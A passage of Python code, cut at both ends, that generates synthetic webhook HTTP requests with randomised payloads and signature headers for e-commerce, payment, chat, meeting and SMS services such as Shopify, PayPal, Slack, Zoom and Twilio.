                         "src": g("image_src", "https://cdn.shopify.com/s/files/1/0612/3456/products/%s.jpg?v=%d" % (hexs(8), t))}]}
    elif topic.startswith("customers"):
        p = dict(cust)
        p["addresses"] = []
        p["note"] = g("customer_note", pick([None, "Met at the Berlin pop-up", "Prefers email"]))
    else:
        p = {"id": R.randint(10**8, 9 * 10**8), "name": g("shop_name", "Acme Store"), "email": "owner@example.com", "domain": shop,
             "province": None, "country": "DE", "address1": pick(STREETS), "zip": "10115", "city": "Berlin",
             "source": None, "phone": "", "created_at": iso(t, z=False), "customer_email": None, "currency": "EUR", "myshopify_domain": shop}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Shopify-Captain-Hook"], ["Accept", "*/*"],
         ["Content-Type", "application/json"], ["Content-Length", None], ["X-Shopify-Topic", topic],
         ["X-Shopify-Hmac-Sha256", b64(mac("shpss_x", body).digest())], ["X-Shopify-Shop-Domain", shop],
         ["X-Shopify-Api-Version", pick(["2024-10", "2025-01", "2024-07"])], ["X-Shopify-Webhook-Id", uid()],
         ["X-Shopify-Triggered-At", iso(t, frac=6)], ["X-Shopify-Event-Id", uid()], ["Accept-Encoding", "gzip;q=1.0,deflate;q=0.6,identity;q=0.3"]]
    return REQ("POST", g("uri", pick(["/webhooks/shopify", "/webhooks/shopify/" + topic.replace("/", "-"),
                                      "/api/shopify/webhooks", "/webhooks/" + topic])), h, body)


def woocommerce(f=None):
    f = f or {}
    g = f.get
    topic = g("topic", pick(["order.created", "order.updated", "product.updated", "customer.created"]))
    name = g("name", pick(NAMES))
    first, _, last = name.partition(" ")
    oid = R.randint(1000, 90000)
    city, country, zipc = pick(CITIES)
    billing = {"first_name": g("first_name", first), "last_name": last, "company": g("company", ""), "address_1": g("address1", pick(STREETS)),
               "address_2": "", "city": city, "state": "", "postcode": zipc, "country": country, "email": g("email", email_for(name)),
               "phone": g("phone", "+49 30 1234567")}
    if topic.startswith("order"):
        title, price = pick(PRODUCTS)
        p = {"id": oid, "parent_id": 0, "status": pick(["processing", "on-hold", "completed"]), "currency": "EUR", "version": "8.5.2",
             "prices_include_tax": True, "date_created": iso(now(), z=False)[:-6], "discount_total": "0.00", "shipping_total": "4.90",
             "total": "%.2f" % (price + 4.9), "customer_id": R.randint(1, 9000), "order_key": "wc_order_" + alnum(13),
             "billing": billing, "shipping": dict(billing, email=None), "payment_method": "stripe", "payment_method_title": "Kreditkarte",
             "customer_ip_address": pick(CLIENT_IPS), "customer_user_agent": pick(UAS_BROWSER), "created_via": "checkout",
             "customer_note": g("note", pick(ORDER_NOTES)), "number": str(oid),
             "meta_data": g("meta_data", [{"id": R.randint(1, 90000), "key": "_wcpdf_invoice_number", "value": str(R.randint(1, 9999))}]),
             "line_items": [{"id": R.randint(1, 9000), "name": title, "product_id": R.randint(1, 900), "quantity": 1, "subtotal": "%.2f" % price,
                             "total": "%.2f" % price, "sku": g("sku", upnum(6)), "price": price, "meta_data": []}],
             "_links": {"self": [{"href": "https://shop.example.com/wp-json/wc/v3/orders/%d" % oid}]}}
    elif topic.startswith("product"):
        title, price = pick(PRODUCTS)
        p = {"id": R.randint(1, 9000), "name": g("title", title), "slug": "item-%d" % R.randint(1, 999), "type": "simple", "status": "publish",
             "description": g("body_html", pick(SHOP_HTML)), "short_description": g("short", "<p>%s</p>" % title), "sku": g("sku", upnum(6)),
             "price": "%.2f" % price, "regular_price": "%.2f" % price, "images": [], "meta_data": g("meta_data", [])}
    else:
        p = {"id": R.randint(1, 9000), "email": billing["email"], "first_name": billing["first_name"], "last_name": last, "role": "customer",
             "username": g("username", billing["email"].split("@")[0]), "billing": billing, "avatar_url": g("avatar_url", "https://secure.gravatar.com/avatar/%s?s=96&d=mm&r=g" % hexs(32))}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "WooCommerce/8.5.2 Hookshot (WordPress/6.4.3)"], ["Content-Type", "application/json"],
         ["X-WC-Webhook-Source", "https://shop.example.com/"], ["X-WC-Webhook-Topic", topic], ["X-WC-Webhook-Resource", topic.split(".")[0]],
         ["X-WC-Webhook-Event", topic.split(".")[1]], ["X-WC-Webhook-Signature", b64(mac("wc", body).digest())],
         ["X-WC-Webhook-ID", str(R.randint(1, 40))], ["X-WC-Webhook-Delivery-ID", hexs(32)]]
    return REQ("POST", g("uri", pick(["/webhooks/woocommerce", "/wp-json/acme/v1/woo-sync", "/api/woo/webhook.php"])), h, body)


def paypal(f=None):
    f = f or {}
    g = f.get
    t = now()
    typ = g("type", pick(["PAYMENT.CAPTURE.COMPLETED", "CHECKOUT.ORDER.APPROVED", "BILLING.SUBSCRIPTION.ACTIVATED", "CUSTOMER.DISPUTE.CREATED"]))
    name = g("name", pick(NAMES))
    amt = "%.2f" % R.choice([9.99, 19.0, 49.5, 120.0, 7.25])
    res = {"id": upnum(17), "status": "COMPLETED", "amount": {"currency_code": "EUR", "value": amt},
           "custom_id": g("custom_id", "order-%d" % R.randint(1000, 99999)), "invoice_id": g("invoice_id", "INV-%d" % R.randint(1000, 99999)),
           "note_to_payer": g("note"), "payee": {"email_address": "merchant@example.com", "merchant_id": upnum(13)},
           "payer": {"name": {"given_name": name.split(" ")[0], "surname": name.split(" ")[-1]}, "email_address": g("email", email_for(name)),
                     "payer_id": upnum(13)},
           "create_time": iso(t), "update_time": iso(t),
           "links": [{"href": "https://api.paypal.com/v2/payments/captures/%s" % upnum(17), "rel": "self", "method": "GET"}]}
    p = {"id": "WH-%s-%s" % (upnum(17), upnum(17)), "event_version": "1.0", "create_time": iso(t, ms=True), "resource_type": "capture",
         "resource_version": "2.0", "event_type": typ, "summary": "Payment completed for EUR %s" % amt, "resource": res,
         "links": [{"href": "https://api.paypal.com/v1/notifications/webhooks-events/WH-%s" % upnum(17), "rel": "self", "method": "GET"}]}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["Accept", "*/*"], ["Content-Type", "application/json"], ["User-Agent", "PayPal/AUHD-214.0-58844319"],
         ["PAYPAL-AUTH-ALGO", "SHA256withRSA"], ["PAYPAL-CERT-URL", g("cert_url", "https://api.paypal.com/v1/notifications/certs/CERT-360caa42-fca2a594-%s" % hexs(8))],
         ["PAYPAL-AUTH-VERSION", "v2"], ["PAYPAL-TRANSMISSION-SIG", b64(rbytes(256))], ["PAYPAL-TRANSMISSION-ID", str(uuid.UUID(int=R.getrandbits(128)))],
         ["PAYPAL-TRANSMISSION-TIME", iso(t)], ["correlation-id", hexs(13)]]
    return REQ("POST", g("uri", pick(["/webhooks/paypal", "/api/paypal/webhook"])), h, body)


def paddle(f=None):
    f = f or {}
    g = f.get
    t = now()
    name = g("name", pick(NAMES))
    p = {"event_id": "evt_" + alnum(26).lower(), "event_type": g("type", pick(["transaction.completed", "subscription.created", "customer.updated"])),
         "occurred_at": iso(t, frac=6), "notification_id": "ntf_" + alnum(26).lower(),
         "data": {"id": "txn_" + alnum(26).lower(), "status": "completed", "customer_id": "ctm_" + alnum(26).lower(),
                  "custom_data": g("custom_data", pick([None, {"workspace_id": uid()}, {"referrer": "newsletter"}])),
                  "currency_code": "USD", "origin": "web", "collection_mode": "automatic",
                  "billing_details": None, "items": [{"price": {"id": "pri_" + alnum(26).lower(), "description": "Pro (monthly)",
                                                                "unit_price": {"amount": "1900", "currency_code": "USD"}}, "quantity": 1}],
                  "customer": {"name": name, "email": g("email", email_for(name))},
                  "details": {"totals": {"subtotal": "1900", "tax": "361", "total": "2261"}}, "created_at": iso(t, frac=6)}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Paddle"], ["Content-Type", "application/json"],
         ["Paddle-Signature", "ts=%d;h1=%s" % (t, mac("pdl", "%d:%s" % (t, body)).hexdigest())]]
    return REQ("POST", g("uri", "/webhooks/paddle"), h, body)


# ============================================================ chat / comms
SLACK_TEXTS = ["Deploy of payments-api v2.4.0 to prod is done :rocket:", "<@U02ABCD1234> can you take a look at the failing build?",
               "Lunch at 12:30? :ramen:", "Heads-up: maintenance window tonight 22:00–23:00 CET",
               "Here's the dashboard: <https://grafana.example.com/d/abc123/api-latency?orgId=1&from=now-6h&to=now|API latency>",
               "Merci pour l'aide hier 🙏", "Who owns the `billing-worker` alerts?", "FYI the on-call rotation changed, see <#C01ONCALL|oncall>",
               ":white_check_mark: migration finished in 4m12s", "Can someone approve my PR? It's a one-liner.",
               "Customer Zoë from Acme says checkout is slow in Safari — anyone else seeing this?",
               "明日のリリースは延期になりました", "&lt;3 thanks team", "Reminder: retro tomorrow, add your notes to the doc"]

SLASH = [("/deploy", "payments-api prod"), ("/deploy", "web-frontend staging --canary 10%"), ("/oncall", "who"),
         ("/incident", "declare sev2 checkout latency EU"), ("/standup", "yesterday: reviews; today: tax rounding fix"),
         ("/poll", "\"Lunch?\" \"Pizza\" \"Sushi\" \"Salad\""), ("/remind", "me to review Zoë's PR in 2 hours"),
         ("/jira", "create PAY Fix rounding for JPY"), ("/weather", "München"), ("/feedback", "Love the new search! 😍"),
         ("/rollback", "checkout-service to v1.18.2"), ("/runbook", "redis failover")]


def slack_headers(body, ts, ct, g):
    return [["Host", g("host", pick(HOSTS))], ["User-Agent", g("ua", "Slackbot 1.0 (+https://api.slack.com/robots)")],
            ["Accept-Encoding", "gzip,deflate"], ["Accept", "*/*"],
            ["X-Slack-Signature", "v0=" + mac("slk", "v0:%d:%s" % (ts, body)).hexdigest()],
            ["X-Slack-Request-Timestamp", str(ts)], ["Content-Length", None], ["Content-Type", ct]]


def slack(f=None):
    f = f or {}
    g = f.get
    kind = g("kind") or pick(["event", "event", "event", "event", "slash", "slash", "interactive", "url_verification", "view_submission"])
    ts = now()
    team = "T" + upnum(10)
    user = "U" + upnum(10)
    if kind in ("event", "url_verification"):
        if kind == "url_verification":
            p = {"token": alnum(24), "challenge": g("challenge", alnum(48)), "type": "url_verification"}
        else:
            et = g("etype", pick(["message", "message", "app_mention", "reaction_added", "team_join", "channel_created", "file_shared"]))
            ev = {"type": et, "user": user, "ts": "%d.%06d" % (ts, R.randint(0, 999999)), "event_ts": "%d.%06d" % (ts, R.randint(0, 999999))}
            if et in ("message", "app_mention"):
                txt = g("text", pick(SLACK_TEXTS))
                ev.update({"client_msg_id": uid(), "text": txt, "team": team, "channel": "C" + upnum(10), "channel_type": "channel",
                           "blocks": [{"type": "rich_text", "block_id": alnum(5), "elements": [{"type": "rich_text_section",
                                                                                             "elements": [{"type": "text", "text": txt}]}]}]})
            elif et == "reaction_added":
                ev.update({"reaction": pick(["+1", "eyes", "white_check_mark", "tada"]), "item_user": "U" + upnum(10),
                           "item": {"type": "message", "channel": "C" + upnum(10), "ts": "%d.%06d" % (ts, 1)}})
            elif et == "team_join":
                nm = g("real_name", pick(NAMES))
                ev["user"] = {"id": user, "team_id": team, "name": nm.lower().replace(" ", "."), "deleted": False, "real_name": nm,
                              "tz": "Europe/Berlin", "tz_label": "Central European Time", "tz_offset": 3600,
                              "profile": {"title": g("title", pick(["", "Staff Engineer", "Customer Success", "CFO"])), "phone": "", "skype": "",
                                          "real_name": nm, "real_name_normalized": nm, "display_name": g("display_name", nm.split(" ")[0]),
                                          "status_text": g("status_text", pick(["", "🌴 on vacation", "In a meeting", "Focus time"])), "status_emoji": pick(["", ":palm_tree:"]),
                                          "avatar_hash": hexs(12), "image_72": g("image", "https://avatars.slack-edge.com/2026-01-12/%s_%s_72.jpg" % (digits(13), hexs(20))),
                                          "email": email_for(nm), "team": team},
                              "is_admin": False, "is_bot": False, "updated": ts}
            elif et == "channel_created":
                ev["channel"] = {"id": "C" + upnum(10), "name": g("channel_name", pick(["inc-2026-02-11-checkout", "proj-apple-pay", "team-berlin"])),
                                 "created": ts, "creator": user}
            else:
                ev.update({"file_id": "F" + upnum(10), "file": {"id": "F" + upnum(10)}, "channel_id": "C" + upnum(10)})
            p = {"token": alnum(24), "team_id": team, "context_team_id": team, "context_enterprise_id": None, "api_app_id": "A" + upnum(10),
                 "event": ev, "type": "event_callback", "event_id": "Ev" + upnum(10), "event_time": ts,
                 "authorizations": [{"enterprise_id": None, "team_id": team, "user_id": "U" + upnum(10), "is_bot": True, "is_enterprise_install": False}],
                 "is_ext_shared_channel": False, "event_context": "4-" + b64url(rbytes(60))}
        body = J(p)
        h = slack_headers(body, ts, "application/json", g)
        if chance(0.12):
            h += [["X-Slack-Retry-Num", str(R.randint(1, 3))], ["X-Slack-Retry-Reason", pick(["http_timeout", "http_error"])]]
        uri = g("uri", pick(["/slack/events", "/api/slack/events", "/webhooks/slack/events"]))
    elif kind == "slash":
        cmd, txt = pick(SLASH)
        cmd = g("command", cmd)
        nm = g("user_name", pick(LOGINS))
        pairs = [("token", alnum(24)), ("team_id", team), ("team_domain", g("team_domain", pick(["acme", "acme-eng", "zoe-ceramics"]))),
                 ("channel_id", "C" + upnum(10)), ("channel_name", g("channel_name", pick(["general", "deploys", "oncall", "directmessage"]))),
                 ("user_id", user), ("user_name", nm), ("command", cmd), ("text", g("text", txt)),
                 ("api_app_id", "A" + upnum(10)), ("is_enterprise_install", "false"),
                 ("response_url", g("response_url", "https://hooks.slack.com/commands/%s/%s/%s" % (team, digits(13), alnum(24)))),
                 ("trigger_id", "%s.%s.%s" % (digits(13), digits(13), hexs(32)))]
        body = form(pairs)
        h = slack_headers(body, ts, "application/x-www-form-urlencoded", g)
        uri = g("uri", pick(["/slack/commands", "/api/slack/command", "/slack/commands" + cmd]))
    else:
        if kind == "interactive":
            p = {"type": "block_actions", "user": {"id": user, "username": g("user_name", pick(LOGINS)), "name": pick(LOGINS), "team_id": team},
                 "api_app_id": "A" + upnum(10), "token": alnum(24), "container": {"type": "message", "message_ts": "%d.%06d" % (ts, 5), "channel_id": "C" + upnum(10), "is_ephemeral": False},
                 "trigger_id": "%s.%s.%s" % (digits(13), digits(13), hexs(32)), "team": {"id": team, "domain": "acme"},
                 "enterprise": None, "is_enterprise_install": False, "channel": {"id": "C" + upnum(10), "name": "deploys"},
                 "message": {"type": "message", "subtype": "bot_message", "text": "Approve deploy of payments-api v2.4.0?", "ts": "%d.%06d" % (ts, 5),
                             "bot_id": "B" + upnum(10)},
                 "state": {"values": {}},
                 "response_url": g("response_url", "https://hooks.slack.com/actions/%s/%s/%s" % (team, digits(13), alnum(24))),
                 "actions": [{"action_id": pick(["approve", "reject", "snooze"]), "block_id": alnum(4), "text": {"type": "plain_text", "text": "Approve", "emoji": True},
                              "value": g("value", pick(["deploy:payments-api:v2.4.0", "incident:1234:ack", "pr:1502"])), "style": "primary", "type": "button",
                              "action_ts": "%d.%06d" % (ts, 9)}]}
        else:
            p = {"type": "view_submission", "team": {"id": team, "domain": "acme"}, "user": {"id": user, "username": pick(LOGINS), "name": pick(LOGINS), "team_id": team},
                 "api_app_id": "A" + upnum(10), "token": alnum(24), "trigger_id": "%s.%s.%s" % (digits(13), digits(13), hexs(32)),
                 "view": {"id": "V" + upnum(10), "team_id": team, "type": "modal", "callback_id": "incident_report",
                          "title": {"type": "plain_text", "text": "Report incident"},
                          "state": {"values": {"summary": {"summary_input": {"type": "plain_text_input", "value": g("value", pick(SUBJECTS))}},
                                               "details": {"details_input": {"type": "plain_text_input", "value": g("details", pick(MESSAGES))}},
                                               "sev": {"sev_select": {"type": "static_select", "selected_option": {"text": {"type": "plain_text", "text": "SEV2"}, "value": "sev2"}}}}},
                          "hash": "%d.%s" % (ts, alnum(8)), "private_metadata": g("private_metadata", ""), "app_id": "A" + upnum(10), "bot_id": "B" + upnum(10)},
                 "response_urls": [], "is_enterprise_install": False, "enterprise": None}
        body = form([("payload", J(p))])
        h = slack_headers(body, ts, "application/x-www-form-urlencoded", g)
        uri = g("uri", pick(["/slack/interactive", "/slack/actions", "/api/slack/interactivity"]))
    return REQ("POST", uri, h, body)


def discord(f=None):
    f = f or {}
    g = f.get
    ts = now()
    typ = g("type", pick([1, 2, 2, 2, 3, 5]))
    nm = g("username", pick(["zoe.m", "kwame_", "tanaka.y", "renee", "lukasz", "ana_sofia"]))
    member = {"user": {"id": digits(18), "username": nm, "global_name": g("global_name", pick(NAMES)), "discriminator": "0",
                       "avatar": g("avatar", hexs(32)), "public_flags": 0},
              "roles": [digits(18)], "joined_at": iso(ts - 86400 * 300, frac=6, z=False), "nick": g("nick"),
              "permissions": "2248473465835073", "pending": False, "deaf": False, "mute": False, "flags": 0}
    p = {"app_permissions": "2248473465835073", "application_id": digits(18), "authorizing_integration_owners": {"0": digits(18)},
         "entitlements": [], "id": digits(19), "token": "aW50ZXJhY3Rpb246" + b64url(rbytes(120)), "type": typ, "version": 1}
    if typ != 1:
        p.update({"channel_id": digits(18), "guild_id": digits(18), "guild_locale": pick(["en-US", "de", "ja", "pt-BR"]),
                  "locale": pick(["en-US", "en-GB", "fr", "ko"]), "member": member,
                  "channel": {"id": digits(18), "name": pick(["general", "support", "bot-commands"]), "type": 0}})
    if typ == 2:
        p["data"] = {"id": digits(18), "name": g("command", pick(["ticket", "status", "feedback", "roll", "remind"])), "type": 1,
                     "options": [{"name": pick(["text", "message", "query"]), "type": 3, "value": g("value", pick(FREE_TEXT + SUBJECTS))}]}
    elif typ == 3:
        p["data"] = {"custom_id": g("custom_id", pick(["ticket:close:%d" % R.randint(1, 9999), "role:toggle:beta", "poll:vote:2"])), "component_type": 2}
        p["message"] = {"id": digits(19), "content": g("value", "Click to close your ticket"), "type": 0}
    elif typ == 5:
        p["data"] = {"custom_id": "feedback_modal", "components": [{"type": 1, "components": [{"type": 4, "custom_id": "body", "value": g("value", pick(FREE_TEXT))}]}]}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Discord-Interactions/1.0 (+https://discord.com)"],
         ["Content-Type", "application/json"], ["X-Signature-Ed25519", hexs(128)], ["X-Signature-Timestamp", str(ts)]]
    return REQ("POST", g("uri", pick(["/api/interactions", "/discord/interactions", "/webhooks/discord"])), h, body)


def msgraph(f=None):
    f = f or {}
    g = f.get
    kind = g("kind") or pick(["validate", "notify", "notify", "notify", "lifecycle", "teams_outgoing"])
    host = g("host", pick(HOSTS))
    if kind == "validate":
        tok = g("token", "Validation: Testing client application reachability for subscription Request-Id: " + uid())
        uri = g("uri", pick(["/api/graph/notifications", "/webhooks/msgraph", "/api/teams/notify"])) + "?validationToken=" + q(tok, safe="").replace("%20", "+")
        h = [["Host", host], ["Content-Type", "text/plain; charset=utf-8"], ["Content-Length", None], ["Accept", "text/plain"],
             ["User-Agent", g("ua", "Microsoft-ChangeNotifications/1.0")]]
        return REQ("POST", uri, h, "")
    if kind == "teams_outgoing":
        nm = g("from_name", pick(NAMES))
        txt = g("text", pick(SLACK_TEXTS))
        p = {"type": "message", "id": digits(13), "timestamp": iso(now(), ms=True), "localTimestamp": iso(now(), ms=True, z=False).replace("+00:00", "+01:00"),
             "serviceUrl": g("serviceUrl", "https://smba.trafficmanager.net/emea/"), "channelId": "msteams",
             "from": {"id": "29:" + alnum(60), "name": nm, "aadObjectId": uid()},
             "conversation": {"isGroup": True, "id": "19:%s@thread.tacv2;messageid=%s" % (alnum(32), digits(13)), "name": None,
                              "conversationType": "channel", "tenantId": uid()},
             "recipient": None, "textFormat": "plain", "attachmentLayout": None, "membersAdded": [], "membersRemoved": [], "topicName": None,
             "historyDisclosed": None, "locale": "en-US", "text": "<at>DeployBot</at>&nbsp;" + txt,
             "speak": None, "inputHint": None, "summary": None, "suggestedActions": None,
             "attachments": [{"contentType": "text/html", "contentUrl": None, "content": g("html", "<div><div><span itemscope=\"\" itemtype=\"http://schema.skype.com/Mention\" itemid=\"0\">DeployBot</span>&nbsp;%s</div>\n</div>" % xesc(txt)), "name": None, "thumbnailUrl": None}],
             "entities": [{"type": "clientInfo", "locale": "en-US", "country": "US", "platform": "Web", "timezone": "Europe/Berlin"}],
             "channelData": {"teamsChannelId": "19:%s@thread.tacv2" % alnum(32), "teamsTeamId": "19:%s@thread.tacv2" % alnum(32),
                             "channel": {"id": "19:%s@thread.tacv2" % alnum(32)}, "team": {"id": "19:%s@thread.tacv2" % alnum(32)}, "tenant": {"id": uid()}},
             "replyToId": None, "value": None, "name": None, "relatesTo": None}
        body = J(p)
        h = [["Host", host], ["Authorization", "HMAC " + b64(mac("teams", body).digest())], ["Content-Type", "application/json; charset=utf-8"],
             ["User-Agent", "Microsoft-SkypeBotApi (Microsoft-BotFramework/3.0)"], ["Content-Length", None]]
        return REQ("POST", g("uri", pick(["/api/teams/outgoing", "/webhooks/teams"])), h, body)
    sid = uid()
    if kind == "lifecycle":
        val = [{"subscriptionId": sid, "subscriptionExpirationDateTime": iso(now(), frac=7, z=False),
                "tenantId": uid(), "clientState": g("clientState", alnum(32)), "lifecycleEvent": pick(["reauthorizationRequired", "missed", "subscriptionRemoved"]),
                "resource": g("resource", "chats/getAllMessages"), "organizationId": uid()}]
    else:
        res = g("resource", pick(["Users/%s/Messages/%s" % (uid(), b64url(rbytes(30))), "teams('%s')/channels('19:%s@thread.tacv2')/messages('%s')" % (uid(), alnum(32), digits(13)),
                                  "Users/%s/Events/%s" % (uid(), b64url(rbytes(30))), "drives/b!%s/root" % alnum(40), "communications/presences/%s" % uid()]))
        val = [{"subscriptionId": sid, "subscriptionExpirationDateTime": iso(now(), frac=7, z=False), "changeType": pick(["created", "updated", "deleted"]),
                "resource": res, "resourceData": g("resourceData", {"@odata.type": "#Microsoft.Graph.Message", "@odata.id": res,
                                                                     "@odata.etag": "W/\"%s\"" % b64(rbytes(24)), "id": b64url(rbytes(30))}),
                "clientState": g("clientState", alnum(32)), "tenantId": uid()}]
        if g("notificationUrl"):
            val[0]["notificationUrl"] = g("notificationUrl")
        if chance(0.3):
            val[0]["encryptedContent"] = {"data": b64(rbytes(R.randint(200, 500))), "dataSignature": b64(rbytes(32)),
                                          "dataKey": b64(rbytes(256)), "encryptionCertificateId": "graph-notif-cert",
                                          "encryptionCertificateThumbprint": hexs(40).upper()}
    body = J({"value": val}, "spaced" if chance(0.3) else "compact")
    h = [["Host", host], ["Content-Type", "application/json; charset=utf-8"], ["Content-Length", None],
         ["User-Agent", g("ua", "Microsoft-ChangeNotifications/1.0")], ["client-request-id", uid()], ["request-id", uid()]]
    return REQ("POST", g("uri", pick(["/api/graph/notifications", "/webhooks/msgraph", "/api/graph/lifecycle"])), h, body)


def zoom(f=None):
    f = f or {}
    g = f.get
    t = now()
    ev = g("event", pick(["endpoint.url_validation", "meeting.started", "meeting.ended", "recording.completed", "meeting.participant_joined"]))
    if ev == "endpoint.url_validation":
        payload = {"plainToken": g("plainToken", b64url(rbytes(16)))}
    else:
        payload = {"account_id": alnum(22), "object": {"uuid": b64(rbytes(16)), "id": digits(11), "host_id": alnum(22),
                                                        "topic": g("topic", pick(["Weekly sync", "Kundentermin Müller GmbH", "1:1 Zoë / Kwame", "Q1 planning 📈", "Incident review #42"])),
                                                        "type": 2, "start_time": iso(t), "timezone": "Europe/Berlin", "duration": 30}}
        if ev == "meeting.participant_joined":
            payload["object"]["participant"] = {"user_id": digits(8), "user_name": g("user_name", pick(NAMES)), "id": alnum(22), "join_time": iso(t),
                                                "email": "", "participant_uuid": uid()}
        if ev == "recording.completed":
            payload["object"]["recording_files"] = [{"id": uid(), "file_type": "MP4", "file_size": R.randint(10**6, 10**9),
                                                     "download_url": g("download_url", "https://zoom.us/rec/webhook_download/%s/%s" % (alnum(40), alnum(40))),
                                                     "recording_type": "shared_screen_with_speaker_view", "status": "completed"}]
            payload["download_token"] = alnum(120)
    p = {"event": ev, "payload": payload, "event_ts": t * 1000 + R.randint(0, 999)}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Zoom Marketplace/1.0a"], ["Content-Type", "application/json; charset=utf-8"],
         ["x-zm-request-timestamp", str(t)], ["x-zm-signature", "v0=" + mac("zm", "v0:%d:%s" % (t, body)).hexdigest()],
         ["x-zm-trackingid", "v=2.0;clid=us06;rid=WEBHOOK_%s" % hexs(32)], ["clientid", alnum(22)]]
    return REQ("POST", g("uri", pick(["/webhooks/zoom", "/api/zoom/events"])), h, body)


def meta(f=None):
    f = f or {}
    g = f.get
    if g("kind", pick(["verify", "msg", "msg", "msg", "status"])) == "verify":
        uri = g("uri", "/webhooks/whatsapp") + "?hub.mode=subscribe&hub.challenge=%s&hub.verify_token=%s" % (g("challenge", digits(10)), g("verify_token", alnum(16)))
        h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "facebookplatform/1.0 (+http://developers.facebook.com)"], ["Accept", "*/*"],
             ["Accept-Encoding", "deflate, gzip"]]
        return REQ("GET", uri, h)
    t = now()
    nm = g("name", pick(NAMES))
    wa = digits(12)
    value = {"messaging_product": "whatsapp", "metadata": {"display_phone_number": "15550101234", "phone_number_id": digits(15)},
             "contacts": [{"profile": {"name": nm}, "wa_id": wa}]}
    mt = g("mtype", pick(["text", "text", "image", "interactive"]))
    m = {"from": wa, "id": "wamid." + b64(rbytes(30)), "timestamp": str(t), "type": mt}
    if mt == "text":
        m["text"] = {"body": g("text", pick(MESSAGES + FREE_TEXT))}
    elif mt == "image":
        m["image"] = {"caption": g("text", pick(["Here's the damaged box", "Receipt 🧾", ""])), "mime_type": "image/jpeg",
                      "sha256": b64(rbytes(32)), "id": digits(16)}
    else:
        m["interactive"] = {"type": "button_reply", "button_reply": {"id": g("button_id", "confirm_order_%d" % R.randint(1000, 9999)), "title": "Confirm"}}
    value["messages"] = [m]
    p = {"object": "whatsapp_business_account", "entry": [{"id": digits(15), "changes": [{"value": value, "field": "messages"}]}]}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "facebookexternalua"], ["Accept", "*/*"], ["Accept-Encoding", "deflate, gzip"],
         ["Content-Type", "application/json"], ["X-Hub-Signature", "sha1=" + mac("fb", body, "sha1").hexdigest()],
         ["X-Hub-Signature-256", "sha256=" + mac("fb", body).hexdigest()]]
    return REQ("POST", g("uri", "/webhooks/whatsapp"), h, body)


TWILIO_SMS = ["Yes", "STOP", "Can I move my appointment to Friday?", "ok 👍", "Where's my order #10482?", "HELP",
              "Danke, bis morgen!", "Running 10 min late, sorry!", "C", "Is the shop open on Sunday?", "1", "START",
              "My code didn't work, can you resend?"]


def twilio(f=None):
    f = f or {}
    g = f.get
    kind = g("kind", pick(["inbound", "inbound", "status", "status", "voice"]))
    acct = "AC" + hexs(32)
    frm = g("from", "+1%s" % digits(10) if chance(0.5) else "+4477009%s" % digits(5))
    to = g("to", "+1555010%s" % digits(4))
    host = g("host", pick(HOSTS))
    if kind == "inbound":
        sid = "SM" + hexs(32)
        nm = int(g("num_media", pick([0, 0, 0, 1])))
        pairs = [("ToCountry", "US"), ("ToState", "CA"), ("SmsMessageSid", sid), ("NumMedia", str(nm)), ("ToCity", "SAN FRANCISCO"),
                 ("FromZip", ""), ("SmsSid", sid), ("FromState", ""), ("SmsStatus", "received"), ("FromCity", ""), ("Body", g("body", pick(TWILIO_SMS))),
                 ("FromCountry", "GB" if frm.startswith("+44") else "US"), ("To", to), ("MessagingServiceSid", "MG" + hexs(32)), ("ToZip", "94105"),
                 ("NumSegments", "1"), ("MessageSid", sid), ("AccountSid", acct), ("From", frm), ("ApiVersion", "2010-04-01")]
        if nm:
            pairs[3:3] = [("MediaContentType0", "image/jpeg"), ("MediaUrl0", g("media_url", "https://api.twilio.com/2010-04-01/Accounts/%s/Messages/%s/Media/ME%s" % (acct, sid, hexs(32))))]
        uri = g("uri", pick(["/twilio/sms", "/webhooks/twilio/inbound", "/api/sms/inbound"]))
    elif kind == "status":
        sid = "SM" + hexs(32)
        st = pick(["sent", "delivered", "undelivered", "failed", "queued"])
        pairs = [("SmsSid", sid), ("SmsStatus", st), ("MessageStatus", st), ("To", to), ("MessagingServiceSid", "MG" + hexs(32)),
                 ("MessageSid", sid), ("AccountSid", acct), ("From", frm), ("ApiVersion", "2010-04-01")]
        if st in ("undelivered", "failed"):
            pairs.insert(0, ("ErrorCode", pick(["30003", "30005", "30007"])))
        if g("extra"):
            pairs += g("extra")
        uri = g("uri", pick(["/twilio/status", "/webhooks/twilio/status-callback", "/api/sms/status?tenant=acme"]))
    else:
        sid = "CA" + hexs(32)
        pairs = [("AccountSid", acct), ("ApiVersion", "2010-04-01"), ("CallSid", sid), ("CallStatus", "ringing"), ("Called", to),
                 ("CalledCountry", "US"), ("Caller", frm), ("CallerName", g("caller_name", pick(["WIRELESS CALLER", "ACME GMBH", "O'NEIL CHRIS"]))),
                 ("Direction", "inbound"), ("From", frm), ("To", to), ("Digits", g("digits", "")), ("SpeechResult", g("speech", "")),
                 ("StirVerstat", "TN-Validation-Passed-A")]
        uri = g("uri", pick(["/twilio/voice", "/api/ivr/gather"]))
    body = form(pairs)
    url = "https://%s%s" % (host, uri) + "".join(k + v for k, v in sorted(pairs))
    h = [["Host", host], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["Content-Length", None],
         ["X-Twilio-Signature", b64(mac("tw", url, "sha1").digest())], ["I-Twilio-Idempotency-Token", uid()],
         ["X-Home-Region", "us1"], ["User-Agent", "TwilioProxy/1.1"], ["Accept", "*/*"], ["Cache-Control", "max-age=259200"]]
    return REQ("POST", uri, h, body)


def sendgrid_events(f=None):
    f = f or {}
    g = f.get
    evs = []
    for i in range(g("n", R.randint(1, 5))):
        t = now()
        et = pick(["processed", "delivered", "open", "click", "bounce", "dropped", "deferred", "spamreport", "unsubscribe"])
        nm = pick(NAMES)
        e = {"email": g("email", email_for(nm)), "timestamp": t, "smtp-id": "<%s@ismtpd-%d>" % (b64url(rbytes(16)), R.randint(1, 300)),
             "event": et, "category": g("category", pick([["newsletter"], ["receipt"], ["password-reset"], "onboarding"])),
